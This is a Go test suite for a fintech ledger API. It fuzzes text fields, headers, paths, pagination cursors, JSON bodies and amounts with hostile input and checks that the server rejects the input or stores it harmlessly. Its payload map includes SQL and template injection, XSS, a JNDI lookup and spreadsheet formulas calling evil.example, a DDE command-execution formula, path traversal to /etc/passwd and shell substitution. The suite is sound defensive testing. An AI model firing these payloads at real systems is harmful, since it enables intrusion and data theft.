package api_test

import (
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"florin/internal/identity"
	"florin/internal/ledger"
	"florin/internal/platform/id"
)

// evilTexts are code for somebody who takes them for more than text.
var evilTexts = map[string]string{
	"SQL":              `'; DROP TABLE users; --`,
	"SQL of another":   `" OR ""="`,
	"script":           `<script>alert(1)</script>`,
	"markup":           `"><img src=x onerror=alert(1)>`,
	"template":         "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
	"JNDI":             "${jndi:ldap://evil.example/a}",
	"header":           "a\r\nSet-Cookie: florin_session=x",
	"line of a log":    "a\n{\"level\":\"ERROR\",\"msg\":\"forged\"}",
	"NUL":              "a\x00b",
	"escape":           "\x1b[2J\x1b]0;x\x07",
	"right to left":    "gpj.\u202eexe",
	"separators":       "a\u2028b\u2029c",
	"formula":          `=HYPERLINK("http://evil.example","x")`,
	"formula of +":     "+1+1",
	"formula of @":     "@SUM(1+1)*cmd|' /C calc'!A0",
	"formula after \t": "\t=1+1",
	"path":             "../../../../etc/passwd",
	"format":           "%s%n%x%99999d",
	"shell":            "$(id);`id`|id",
	"no text":          "\U000e0041\ufeff\ufffe",
	"long":             strings.Repeat("x", 20_000),
	"combining":        "a" + strings.Repeat("\u0301", 300),
}

// textField is a field that takes text: how it is sent, and how it reads later.
type textField struct {
	name string
	send func(text string) answer
	read func() string // nil where it is not shown again
}

// textFields are all of them that a person or a program fills.
func (w *world) textFields() []textField {
	c, admin := w.customer("Theo Text"), w.program(identity.Admin, "")
	account, other := c.open("USD"), w.customer("Ula Text").open("USD")
	w.fund(account, "1000")
	link := c.link()
	var last string
	keep := func(a answer, name string) answer {
		if last = ""; a.status < 300 {
			last = text(a.object(), name)
		}
		return a
	}
	profile := func(field string) textField {
		return textField{"profile's " + field, func(s string) answer { return c.patch(me, object{field: s}) }, func() string { return text(c.get(me).object(), field) }}
	}
	return []textField{
		profile("name"), profile("phone"), profile("address"), profile("locale"),
		{"sign-up's name", func(s string) answer {
			return w.stranger().post("/api/v1/auth/signup", object{"email": someEmail(), "password": goodPassword, "name": s})
		}, nil},
		{"sign-up's email", func(s string) answer {
			return w.stranger().post("/api/v1/auth/signup", object{"email": s + "@example.com", "password": goodPassword, "name": "Eve"})
		}, nil},
		{"sign-in's email", func(s string) answer {
			return w.stranger().post("/api/v1/auth/signin", object{"email": s, "password": goodPassword})
		}, nil},
		{"sign-in's password", func(s string) answer {
			return w.stranger().post("/api/v1/auth/signin", object{"email": someEmail(), "password": s})
		}, nil},
		{"sign-in's code", func(s string) answer {
			return w.stranger().post("/api/v1/auth/signin", object{"email": someEmail(), "password": goodPassword, "code": s, "recoveryCode": s})
		}, nil},
		{"reset's email", func(s string) answer { return w.stranger().post("/api/v1/auth/password-reset", object{"email": s}) }, nil},
		{"reset's token", func(s string) answer {
			return w.stranger().post("/api/v1/auth/password-reset/confirm", object{"token": "florin_reset_" + s, "newPassword": otherPassword})
		}, nil},
		{"verification's token", func(s string) answer { return w.stranger().post("/api/v1/auth/verification", object{"token": s}) }, nil},
		{"bank's name", func(s string) answer {
			return keep(c.post(me+"/linked-accounts", object{"bankName": s, "iban": "DE89370400440532013000"}), "linkedAccountId")
		}, func() string {
			defer func() { c.delete(me + "/linked-accounts/" + last).want(http.StatusOK) }()
			for _, linked := range c.get(me + "/linked-accounts").object().list("data") {
				if linked["linkedAccountId"] == last {
					return text(linked, "bankName")
				}
			}
			return ""
		}},
		{"routing number", func(s string) answer {
			return c.post(me+"/linked-accounts", object{"bankName": "B", "routingNumber": s, "accountNumber": s})
		}, nil},
		{"IBAN", func(s string) answer { return c.post(me+"/linked-accounts", object{"bankName": "B", "iban": s}) }, nil},
		{"description of a transfer", func(s string) answer {
			return keep(c.post(me+"/transfers", object{"accountId": account, "to": object{"accountId": other}, "amount": "0.01", "description": s}), "transactionId")
		}, func() string { return text(c.get(me+"/transactions/"+last).object(), "description") }},
		{"description of a deposit", func(s string) answer {
			return keep(c.post(me+"/deposits", object{"accountId": account, "linkedAccountId": link, "amount": "0.01", "description": s}), "transactionId")
		}, func() string { return text(c.get(me+"/transactions/"+last).object(), "description") }},
		{"payee", func(s string) answer {
			return c.post(me+"/transfers", object{"accountId": account, "to": object{"email": s}, "amount": "0.01"})
		}, nil},
		{"payee's id", func(s string) answer {
			return c.post(me+"/transfers", object{"accountId": account, "to": object{"userId": s}, "amount": "0.01"})
		}, nil},
		{"payee's account", func(s string) answer {
			return c.post(me+"/transfers", object{"accountId": account, "to": object{"accountId": s}, "amount": "0.01"})
		}, nil},
		{"payer's account", func(s string) answer {
			return c.post(me+"/transfers", object{"accountId": s, "to": object{"accountId": other}, "amount": "0.01"})
		}, nil},
		{"currency", func(s string) answer { return c.post(me+"/accounts", object{"currency": s, "accountType": s}) }, nil},
		{"metadata", func(s string) answer {
			return keep(admin.post("/api/v1/accounts", object{"metadata": object{"a": s}}), "accountId")
		}, func() string { return text(admin.get("/api/v1/accounts/"+last).object(), "metadata", "a") }},
		{"name in metadata", func(s string) answer { return admin.post("/api/v1/accounts", object{"metadata": object{s: "a"}}) }, nil},
		{"description of a raw transfer", func(s string) answer {
			return keep(admin.post("/api/v1/transfers", object{"transactionId": id.New("t"), "sourceAccountId": account, "destinationAccountId": other, "amount": "0.01", "description": s}), "transactionId")
		}, func() string { return text(admin.get("/api/v1/transactions/"+last).object(), "description") }},
		{"key's name", func(s string) answer {
			return keep(admin.post("/api/v1/api-keys", object{"name": s, "role": "support"}), "keyId")
		}, func() string { return text(admin.get("/api/v1/api-keys/"+last).object(), "name") }},
		{"key's owner", func(s string) answer {
			return admin.post("/api/v1/api-keys", object{"name": "k", "role": "customer", "ownerId": s})
		}, nil},
		{"key's network", func(s string) answer {
			return admin.post("/api/v1/api-keys", object{"name": "k", "role": "support", "networks": []string{s}})
		}, nil},
		{"key's scope", func(s string) answer {
			return admin.post("/api/v1/api-keys", object{"name": "k", "role": "support", "scopes": []string{s}})
		}, nil},
		{"role", func(s string) answer { return admin.put("/api/v1/users/"+c.userID+"/role", object{"role": s}) }, nil},
		{"rule's id", func(s string) answer {
			return admin.post("/api/v1/risk/rules", object{"ruleId": s, "name": "n", "expression": "false", "outcome": "ALLOW", "enabled": false})
		}, nil},
		{"rule's name", func(s string) answer {
			return admin.post("/api/v1/risk/rules", object{"ruleId": strings.ToLower(id.New("r")), "name": s, "expression": "false", "outcome": "ALLOW", "enabled": false})
		}, nil},
		{"rule's expression", func(s string) answer {
			return admin.post("/api/v1/risk/rules/test", object{"expression": s, "facts": object{"operation": "transfer", "amount": "1", "currency": "USD"}})
		}, nil},
		{"rule about text", func(s string) answer {
			return admin.post("/api/v1/risk/rules/test", object{"expression": "role == 'x'", "facts": object{"operation": s, "amount": "1", "currency": s, "role": s}})
		}, nil},
	}
}

// attackTexts writes code into every field of text: it is refused, or kept as the
// text that it is. The log keeps its form (wantOrderlyLog).
func attackTexts(t *testing.T, w *world) {
	for _, field := range w.textFields() {
		for name, evil := range evilTexts {
			got := field.send(evil)
			if got.status >= 500 || got.status == 0 {
				t.Errorf("%s, %s: %d %.300s", field.name, name, got.status, got.text)
				continue
			}
			if got.status >= 300 || field.read == nil {
				continue
			}
			stored := field.read()
			isAddress := field.name == "profile's address" // of lines that end with \n
			if stored != evil && stored != strings.Join(strings.Fields(evil), " ") && stored != strings.TrimSpace(evil) && !isAddress {
				t.Errorf("%s, %s: %q was stored as %q", field.name, name, evil, stored)
			}
			if strings.ContainsAny(stored, "\x00") {
				t.Errorf("%s, %s: NUL was stored", field.name, name)
			}
			switch field.name {
			case "profile's name", "key's name", "bank's name": // staff read them in lines
				if strings.ContainsAny(stored, "\r\n\u202e\u2028") {
					t.Errorf("%s took %q", field.name, stored)
				}
			}
		}
	}
	w.attackTextOutsideBodies(t)
	w.attackSpreadsheets(t)
}

// attackTextOutsideBodies puts the texts where a header, a path or a query takes some.
func (w *world) attackTextOutsideBodies(t *testing.T) {
	c := w.customer("Hugo Header")
	admin := w.program(identity.Admin, "")
	for _, path := range []string{"/api/v1/accounts/" + c.open("USD") + "%2Fpostings", "/api/v1%2Faccounts"} {
		if status, text := admin.raw(http.MethodGet, path, ""); status != http.StatusBadRequest && status != http.StatusNotFound {
			t.Errorf("an escaped slash leads to another route: %s: %d %.300s", path, status, text)
		}
	}
	for name, evil := range evilTexts {
		escaped := func(s string) string {
			var all strings.Builder
			for _, b := range []byte(s) {
				fmt.Fprintf(&all, "%%%02X", b)
			}
			return all.String()
		}(evil)
		if len(evil) > 1000 {
			escaped = evil
		}
		for _, path := range []string{
			"/api/v1/accounts/" + escaped, "/api/v1/users/" + escaped, "/api/v1/" + escaped, "/api/v1/users?email=" + escaped, "/api/v1/users?role=" + escaped,
			"/api/v1/accounts?metadata=" + escaped, "/api/v1/accounts?currency=" + escaped, "/api/v1/audit-events?targetId=" + escaped, "/api/v1/audit-events?action=" + escaped,
			"/api/v1/audit-events?from=" + escaped, "/api/v1/api-keys?prefix=" + escaped, "/api/v1/risk/reviews?userId=" + escaped, "/api/v1/approvals?targetId=" + escaped,
			"/api/v1/limits/" + escaped + "/USD", "/api/v1/risk/rules/" + escaped + "/versions", "/api/v1/transactions?accountId=" + escaped, "/" + escaped,
		} {
			if status, text := admin.raw(http.MethodGet, path, ""); status >= 500 || status == 0 {
				t.Errorf("%s in %.100s: %d %.300s", name, path, status, text)
			}
		}
		if strings.ContainsAny(evil, "\r\n\x00\x1b") { // Go's client sends no such header; rawGet does
			continue
		}
		for _, header := range []string{"User-Agent", "Idempotency-Key", "X-Request-Id", "If-None-Match", "Accept", "Content-Type", "Accept-Language", "Referer"} {
			if status, text := c.raw(http.MethodPost, me+"/accounts", `{"currency":"EUR"}`, header, evil); status >= 500 || status == 0 {
				t.Errorf("%s in %s: %d %.300s", name, header, status, text)
			}
		}
		got := w.stranger().call(http.MethodPost, "/api/v1/auth/signin", object{"email": c.email, "password": c.password}, "User-Agent", evil)
		if got.status == http.StatusOK && strings.ContainsAny(text(got.object(), "session", "agent"), "\u202e\u2028\t") {
			t.Errorf("the agent is %s", got.text)
		}
	}
}

// attackSpreadsheets reads statements as spreadsheets do.
func (w *world) attackSpreadsheets(t *testing.T) {
	c := w.customer("Fia Formula")
	account, other := c.open("USD"), w.customer("=1+1").open("USD")
	w.fund(account, "100")
	for _, evil := range evilTexts {
		c.post(me+"/transfers", object{"accountId": account, "to": object{"accountId": other}, "amount": "0.01", "description": evil})
	}
	from, to := w.time.Now().Add(-time.Hour).UTC(), w.time.Now().Add(time.Hour).UTC()
	status, text := c.raw(http.MethodGet, fmt.Sprintf("%s/statements?format=csv&accountId=%s&from=%s&to=%s", me, account, from.Format(time.RFC3339), to.Format(time.RFC3339)), "")
	if status != http.StatusOK {
		t.Fatalf("%d %s", status, text)
	}
	reader := csv.NewReader(strings.NewReader(text))
	reader.FieldsPerRecord = -1
	rows, fields := 0, 0
	for {
		row, err := reader.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		rows++
		for _, field := range row {
			fields++
			isNumber := strings.Trim(field, "-0123456789.") == ""
			if field != "" && !isNumber && strings.ContainsAny(field[:1], "=+-@\t\r") {
				t.Errorf("a spreadsheet runs %q", field)
			}
		}
	}
	if rows < 15 || fields < 50 {
		t.Errorf("%d rows, %d fields", rows, fields)
	}
}

// attackBodies sends what is too large, too deep, cut, twice, or no JSON, to every
// operation that takes a body.
func attackBodies(t *testing.T, w *world) {
	admin, customer := w.program(identity.Admin, ""), w.customer("Bo Body")
	deep := strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000)
	bodies := map[string]string{
		"an array": "[]", "a text": `"x"`, "a number": "1e999", "null": "null", "cut": `{"a`, "nothing": " ", "two": "{}{}", "no JSON": "<xml/>", "UTF-16": "\xff\xfe{\x00}\x00",
		"a mark before": "\ufeff{}", "half a pair": `{"name":"\ud800"}`, "no UTF-8": "{\"name\":\"\xff\"}", "a control": "{\"name\":\"\x01\"}", "a comma": `{"name":"a",}`,
		"comments": `{/*a*/"name":"a"}`, "NaN": `{"amount":NaN}`, "deep arrays": strings.Repeat("[", 200_000), "deep objects": deep, "deep in a member": `{"metadata":` + deep + `}`,
		"deep in an unknown one": `{"x":` + deep + `}`, "many members": "{" + strings.Repeat(`"a":1,`, 100_000) + `"b":1}`, "a long name": `{"` + strings.Repeat("a", 500_000) + `":1}`,
		"a long number": `{"amount":` + strings.Repeat("9", 500_000) + `}`, "a long text": `{"name":"` + strings.Repeat("a", 900_000) + `"}`, "prototype": `{"__proto__":{"role":"admin"}}`,
		"twice": `{"name":"a","name":"b"}`, "twice, escaped": `{"name":"a","n\u0061me":"b"}`,
	}
	for _, o := range w.operations() {
		if o.op["requestBody"] == nil || strings.HasPrefix(o.path, ingestPath) {
			continue
		}
		path, _ := possessions{
			"accountId": "a", "transactionId": "t", "holdId": "h", "userId": "user_a", "keyId": "key_a", "decisionId": "dec_a", "approvalId": "apr_a",
			"exportId": "1", "ruleId": "r", "queryId": "sq_a", "role": "customer", "currency": "USD", "campaignId": "c", "customerId": "c", "purchaseId": "p",
		}.fill(o.path)
		caller := customer
		if !strings.Contains(o.path, "/users/me") && !strings.Contains(o.path, "/auth/") {
			caller = admin
		}
		for name, body := range bodies {
			began := time.Now()
			status, text := caller.raw(o.method, path, body)
			switch {
			case status == http.StatusBadRequest:
			case status == http.StatusRequestEntityTooLarge && len(body) > 16<<10: // small requests have a small limit
			case status > 0 && status < 500 && name == "nothing": // some need no body
			default:
				t.Errorf("%s %s, %s: %d %.300s", o.method, o.path, name, status, text)
			}
			if took := time.Since(began); took > 10*time.Second {
				t.Errorf("%s %s, %s took %s", o.method, o.path, name, took)
			}
			if len(text) > 20_000 {
				t.Errorf("%s %s, %s is answered by %d bytes", o.method, o.path, name, len(text))
			}
		}
		tooLong := strings.Repeat(" ", 1<<20+1)
		if strings.HasSuffix(o.path, "/batch") {
			tooLong = strings.Repeat(" ", 16<<20+1)
		}
		if status, text := caller.raw(o.method, path, tooLong); status != http.StatusRequestEntityTooLarge {
			t.Errorf("%s %s, too large: %d %.300s", o.method, o.path, status, text)
		}
		if status, text := caller.raw(o.method, path, "{}", "Content-Encoding", "gzip"); status != http.StatusUnsupportedMediaType {
			t.Errorf("%s %s, compressed: %d %.300s", o.method, o.path, status, text)
		}
		for _, media := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-7", "application/xml"} {
			if status, text := caller.raw(o.method, path, "{}", "Content-Type", media); status != http.StatusUnsupportedMediaType {
				t.Errorf("%s %s as %s: %d %.300s", o.method, o.path, media, status, text)
			}
		}
	}
}

// attackCursors makes up cursors, and asks for pages of any size, of every list.
func attackCursors(t *testing.T, w *world) {
	admin := w.program(identity.Admin, "")
	encode := func(parts ...string) string {
		return base64.RawURLEncoding.EncodeToString([]byte(strings.Join(parts, "\n")))
	}
	kinds := []string{"users", "keys", "accounts", "transactions", "postings", "approvals", "decisions", "reviews", "rule versions", "audit", "audit events", "exports", "campaigns", "campaign versions", "purchases", "rewards"}
	rows := [][]string{
		nil, {""}, {"' OR 1=1 --"}, {"\x00"}, {"a"}, {"-1"}, {"9223372036854775807"}, {"9223372036854775808"}, {"-9223372036854775808", "a"}, {"1", "' OR 1=1"},
		{"1", "\xff"}, {"NaN", "a"}, {"1", "a", "b"}, {"1", "a", "b", "c"}, {"a", "0"}, {"a", "-1"}, {"a", "9223372036854775807"}, {"99999999999999999999", "a"},
		{"0", "0", "0"}, {"2026-01-01", "x", "1"}, {"2026-01-01", "jrn_a", "-1"}, {strings.Repeat("9", 100)}, {"253402300800000000", "a"},
	}
	cursors := []string{"!", "%00", "AAAA", "====", strings.Repeat("A", 300), strings.Repeat("A", 301), "..", "null", "0"}
	for _, kind := range kinds {
		for _, row := range rows {
			cursors = append(cursors, encode(append([]string{kind}, row...)...), encode(append([]string{kind + ".snapshot", "1"}, row...)...))
		}
	}
	own := w.customer("Cleo Cursor")
	own.open("USD")
	w.campaignOfTwo("cursors")
	tried := 0
	for _, o := range w.operations() {
		if o.method != http.MethodGet || !hasParameter(o, "cursor") {
			continue
		}
		tried++
		path, _ := possessions{"accountId": "a", "ruleId": "new_payee", "campaignId": "cursors"}.fill(o.path)
		query := path + "?"
		switch {
		case strings.HasSuffix(o.path, "/risk/decisions"):
			query += "accountId=a&"
		case o.path == rewards:
			query += "campaignId=cursors&"
		}
		caller := admin
		if strings.HasPrefix(o.path, me) {
			caller = own
		}
		for _, cursor := range cursors {
			if status, text := caller.raw(http.MethodGet, query+"cursor="+cursor, ""); status >= 500 || status == 0 {
				t.Errorf("%s, cursor %q: %d %.300s", o.path, cursor, status, text)
			}
		}
		for _, limit := range []string{"0", "-1", "501", "2147483648", "99999999999999999999", "1e2", "0x10", "NaN", "1.5", "%00", "'%20OR%201=1", "١"} {
			if status, text := caller.raw(http.MethodGet, query+"limit="+limit, ""); status != http.StatusBadRequest {
				t.Errorf("%s, limit %s: %d %.300s", o.path, limit, status, text)
			}
		}
	}
	if tried < 10 {
		t.Errorf("%d lists only", tried)
	}
	// A forged cursor shows a customer no more than his own.
	_, theirs := w.belongings()
	own.signIn() // belongings take two days
	far := encode("transactions", "253402300799000000", "zzzz")
	if got := own.get(me + "/transactions?cursor=" + far).want(http.StatusOK); len(got.object().list("data")) > 0 {
		t.Errorf("he sees %s", got.text)
	}
	merchant := w.program(identity.Merchant, w.merchant().userID)
	if got := merchant.get("/api/v1/accounts?cursor=" + encode("accounts", "0")).want(http.StatusOK); strings.Contains(got.text, theirs["accountId"]) {
		t.Errorf("he sees %s", got.text)
	}
	merchant.get("/api/v1/accounts/"+theirs["accountId"]+"/postings?cursor="+encode("postings", theirs["accountId"], "99")).wantProblem(http.StatusNotFound, "account_not_found", "")
}

func hasParameter(o operation, name string) bool {
	parameters, _ := o.op["parameters"].([]any)
	for _, parameter := range parameters {
		if parameter.(map[string]any)["name"] == name {
			return true
		}
	}
	return false
}

// attackAmounts pays what is no amount, nothing, or less than nothing.
func attackAmounts(t *testing.T, w *world) {
	c, admin := w.customer("Ann Amount"), w.program(identity.Admin, "")
	account, link := c.open("USD"), c.link()
	payee := w.customer("Abe Amount").open("USD")
	w.fund(account, "100")
	amounts := []string{
		`"-1"`, `-1`, `"-0.01"`, `0`, `"0.00"`, `-0`, `"NaN"`, `"Infinity"`, `"-Infinity"`, `"1e400"`, `1e400`, `1E2`, `"1E2"`, `1e-400`, `"0x10"`, `"1,00"`, `"1.001"`, `0.001`,
		`"1000000000000000"`, `1000000000000000`, `"9999999999999999999999"`, `""`, `" 1"`, `"1 "`, `"+1"`, `"１"`, `"1_0"`, `true`, `[]`, `{}`, `"none"`, `".5"`, `"5."`, `"1.1.1"`, `"--1"`,
		`"` + strings.Repeat("9", 10_000) + `"`, `"0.` + strings.Repeat("0", 10_000) + `1"`,
	}
	var accepted []string
	for _, amount := range amounts {
		for _, o := range []struct {
			by             *caller
			path, template string
		}{
			{c, me + "/transfers", `{"accountId":%[1]q,"to":{"accountId":%[2]q},"amount":%[3]s}`},
			{c, me + "/withdrawals", `{"accountId":%[1]q,"linkedAccountId":%[4]q,"amount":%[3]s}`},
			{c, me + "/deposits", `{"accountId":%[1]q,"linkedAccountId":%[4]q,"amount":%[3]s}`},
			{admin, "/api/v1/transfers", `{"transactionId":%[5]q,"sourceAccountId":%[1]q,"destinationAccountId":%[2]q,"amount":%[3]s}`},
			{admin, "/api/v1/transactions/process", `{"transactionId":%[5]q,"sourceAccountId":%[1]q,"destinationAccountId":%[2]q,"amount":%[3]s}`},
			{admin, "/api/v1/holds", `{"sourceAccountId":%[1]q,"destinationAccountId":%[2]q,"amount":%[3]s}`},
		} {
			body := fmt.Sprintf(o.template, account, payee, amount, link, id.New("t"))
			if i := strings.Index(body, "%!(EXTRA"); i >= 0 {
				body = body[:i]
			}
			status, text := o.by.raw(http.MethodPost, o.path, body)
			if status == http.StatusAccepted && strings.HasSuffix(o.path, "/process") {
				accepted = append(accepted, text) // its currency is not known yet
				continue
			}
			if status != http.StatusBadRequest && status != http.StatusUnprocessableEntity {
				t.Errorf("%s of %.30s: %d %.300s", o.path, amount, status, text)
			}
		}
		body := fmt.Sprintf(`{"transfers":[{"transactionId":%q,"sourceAccountId":%q,"destinationAccountId":%q,"amount":%s}]}`, id.New("t"), account, payee, amount)
		status, text := admin.raw(http.MethodPost, "/api/v1/transfers/batch", body)
		var outcome object
		if _ = json.Unmarshal([]byte(text), &outcome); status != http.StatusBadRequest && outcome["succeeded"] != 0.0 {
			t.Errorf("a batch of %.30s: %d %.300s", amount, status, text)
		}
	}
	for _, answer := range accepted {
		w.wantFailed(answer)
	}
	if posted, held := w.balanceOf(account); posted != "100.00" || held != "0.00" {
		t.Errorf("%s is left, %s held", posted, held)
	}
	if posted, _ := w.balanceOf(payee); posted != "0.00" {
		t.Errorf("%s arrived", posted)
	}
}

// wantFailed waits until what was accepted has ended, and fails the test unless it
// failed.
func (w *world) wantFailed(accepted string) {
	w.t.Helper()
	var o object
	if err := json.Unmarshal([]byte(accepted), &o); err != nil {
		w.t.Fatal(err)
	}
	for range 600 {
		transfer, err := w.ledger.TransferByID(w.t.Context(), text(o, "transactionId"))
		if err != nil {
			w.t.Fatal(err)
		}
		switch transfer.Status {
		case ledger.Failed:
			return
		case ledger.Completed:
			w.t.Fatalf("%s was done", transfer.ID)
		}
		time.Sleep(50 * time.Millisecond)
	}
	w.t.Fatalf("%s did not end", accepted)
}
